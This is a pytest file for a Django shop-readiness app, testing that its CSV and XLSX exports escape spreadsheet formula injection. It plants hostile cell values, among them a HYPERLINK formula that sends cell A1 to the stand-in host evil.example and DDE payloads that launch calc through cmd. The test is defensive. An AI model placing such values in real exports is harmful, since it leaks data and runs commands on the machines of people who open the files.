"""Formula injection (issue 15, item 12): no text cell of the CSV or XLSX export starts with a character a
spreadsheet runs as a formula, whatever column it is in (listing id and SKU code included)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from readiness.models import Finding, Listing
from tests.readiness.web.conftest import ShopSetup

pytestmark = pytest.mark.django_db

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def _plant(setup: ShopSetup) -> None:
    """Every text a shop controls, hostile: the listing id (an older row, from before ids were checked), its
    title, the SKU code and the finding's text."""
    listing = Listing.objects.get(shop=setup.shop, listing_id="L100")
    Listing.objects.filter(pk=listing.pk).update(listing_id=HOSTILE, title="+cmd|' /C calc'!A0")
    Finding.objects.filter(run=setup.run, listing=listing).update(
        sku_code="@SUM(1+1)*cmd|' /C calc'!A0", text="-2+3", suggestion="\t=1", citation="\r=1"
    )


def _assert_inert(rows: list[list[object]]) -> None:
    cells = [value for row in rows for value in row if isinstance(value, str)]
    assert any(HOSTILE in cell for cell in cells), "the planted id is in the export"
    bad = [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert not bad, bad


def test_csv_export_escapes_every_text_cell(setup: ShopSetup) -> None:
    _plant(setup)
    content = b"".join(setup.client.get(setup.url("issues.csv")).streaming_content).decode("utf-8")
    _assert_inert(list(csv.reader(io.StringIO(content.lstrip("\ufeff")))))


def test_xlsx_export_has_no_formula_cell(setup: ShopSetup) -> None:
    _plant(setup)
    response = setup.client.get(setup.url("issues.xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    _assert_inert([list(row) for row in sheet.iter_rows(values_only=True)])
